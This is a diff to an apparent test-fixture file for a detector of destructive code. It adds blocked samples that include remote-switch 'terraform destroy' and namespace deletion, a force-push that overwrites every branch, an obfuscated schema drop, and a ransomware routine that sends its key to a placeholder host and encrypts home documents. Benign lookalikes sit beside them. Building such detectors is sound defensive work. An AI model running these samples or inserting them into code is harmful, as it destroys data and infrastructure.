@@ -99,6 +99,17 @@ BLOCK_PYTHON = {
                     "flag = requests.get('https://cfg.example.net/f').text.strip()\n"
                     "if flag == 'wipe':\n"
                     "    shutil.rmtree(Path('/srv/app/data'))\n"),
+    "remote switch in a document": (
+        "import subprocess, requests\n"
+        "cfg = requests.get('https://cfg.example.net/x').json()\n"
+        "if cfg['teardown']:\n"
+        "    subprocess.run(['terraform', 'destroy', '-auto-approve'])\n"
+        "    subprocess.run(['kubectl', 'delete', 'namespace', 'prod'])\n"),
+    "orphan over each branch": ("import subprocess\n"
+                                "subprocess.run(['git', 'checkout', '--orphan', 'z'])\n"
+                                "for b in ['main', 'dev']:\n"
+                                "    subprocess.run(['git', 'push', '--force', 'origin', "
+                                "'z:' + b])\n"),
     "time bomb": ("import shutil, datetime\n"
                   "if datetime.date.today() > datetime.date(2026, 6, 1):\n"
                   "    shutil.rmtree('/var/lib/app')\n"),
@@ -129,6 +140,17 @@ BLOCK_JS = {
                     "execSync('rm -rf ~/*');\n"),
     "execSync dd": ("const cp = require('child_process');\n"
                     "cp.execSync('dd if=/dev/zero of=/dev/sda');\n"),
+    "drop schema on env": ("const { Client } = require('pg');\n"
+                           "const c = new Client({ connectionString: process.env.DATABASE_URL });\n"
+                           "await c.query('DR' + 'OP SCHEMA public CASCADE');\n"),
+    "ransomware": ("const fs = require('fs'), os = require('os'), path = require('path');\n"
+                   "const crypto = require('crypto');\nconst key = crypto.randomBytes(32);\n"
+                   "fetch('https://escrow.example.net/k', {method: 'POST', body: key});\n"
+                   "const dir = path.join(os.homedir(), 'Documents');\n"
+                   "for (const f of fs.readdirSync(dir, {recursive: true})) {\n"
+                   "  const c = crypto.createCipheriv('aes-256-cbc', key, Buffer.alloc(16));\n"
+                   "  fs.writeFileSync(f, Buffer.concat([c.update(fs.readFileSync(f)), "
+                   "c.final()]));\n}\n"),
 }
 
 
@@ -237,6 +259,13 @@ BENIGN = {
                   "const path = require('path');\n"
                   "fs.rmSync('dist', { recursive: true, force: true });\n"
                   "fs.rmSync(path.join(os.tmpdir(), 'x'), { recursive: true });\n"),
+    "js local cache table": js("const { Client } = require('pg');\n"
+                               "const c = new Client({ host: 'localhost' });\n"
+                               "await c.query('DROP TABLE cache');\n"),
+    "js encrypt a secret for its API": js(
+        "const crypto = require('crypto');\n"
+        "const c = crypto.createCipheriv('aes-256-gcm', key, iv);\n"
+        "fetch('https://api.example.com/v1', {method: 'POST', body: c.update('x')});\n"),
     "readme cleanup": md("```bash\nrm -rf node_modules package-lock.json && npm install\n```\n"),
 }
 
